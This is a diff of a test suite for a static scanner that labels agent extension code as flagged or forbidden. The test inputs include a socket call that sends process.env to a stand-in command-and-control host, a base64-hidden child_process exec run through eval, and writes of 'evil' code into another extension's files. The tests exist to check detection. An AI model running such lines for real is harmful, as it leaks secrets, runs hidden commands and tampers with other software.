@@ -40,6 +40,12 @@ describe('pi settings and logins written: flagged as refused at runtime, not for
     assert.equal(verdict(`${FS}appendFileSync(join(process.cwd(), '.pi', 'payload.log'), 'x');`), 'flagged');
   });
 
+  it("a pi folder below a root the scanner cannot compute (pi's getAgentDir()) is still pi's folder", () => {
+    const pre = `${FS}import { mkdirSync } from 'node:fs';\ndeclare function agentRoot(): string;\n`;
+    assert.equal(verdict(`${pre}mkdirSync(join(agentRoot(), '.pi', 'agent', 'sessions', 'mine'), { recursive: true });`), 'flagged');
+    assert.equal(verdict(`${pre}writeFileSync(join(agentRoot(), '.pi', 'agent', 'extensions', 'x', 'index.ts'), 'evil');`), 'forbidden');
+  });
+
   it("writing another extension's code, pi-warden's store or pi-warden's policy stays forbidden", () => {
     assert.deepEqual(rules(`${FS}writeFileSync(join(homedir(), '.pi', 'agent', 'extensions', 'x', 'index.ts'), 'evil');`), [
       'fs.sensitive-write',
@@ -69,6 +75,26 @@ describe('node:net and other raw sockets: flagged as refused at runtime', () => 
     const src = "import net from 'node:net';\nconst s = net.connect(4444, 'relay.example-c2.net');\ns.write(JSON.stringify(process.env));";
     assert.equal(verdict(src), 'forbidden');
     assert.ok(rules(src).includes('net.exfiltration'));
+  });
+});
+
+describe('worker_threads and cluster: flagged as refused at runtime', () => {
+  it('a worker pool is flagged and the finding says the sandbox refuses the module', () => {
+    const f = findings("import { Worker } from 'node:worker_threads';\nnew Worker(new URL('./w.js', import.meta.url));");
+    assert.deepEqual(
+      f.map((x) => [x.ruleId, x.classification]),
+      [['process.worker', 'flagged']],
+    );
+    assert.match(f[0]!.message, /refused at runtime/);
+  });
+
+  it('code handed to a worker as a string is still code generation (forbidden)', () => {
+    assert.equal(
+      verdict(
+        "import { Worker } from 'node:worker_threads';\nconst c = atob('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoImlkIik=');\neval(c);",
+      ),
+      'forbidden',
+    );
   });
 });
 
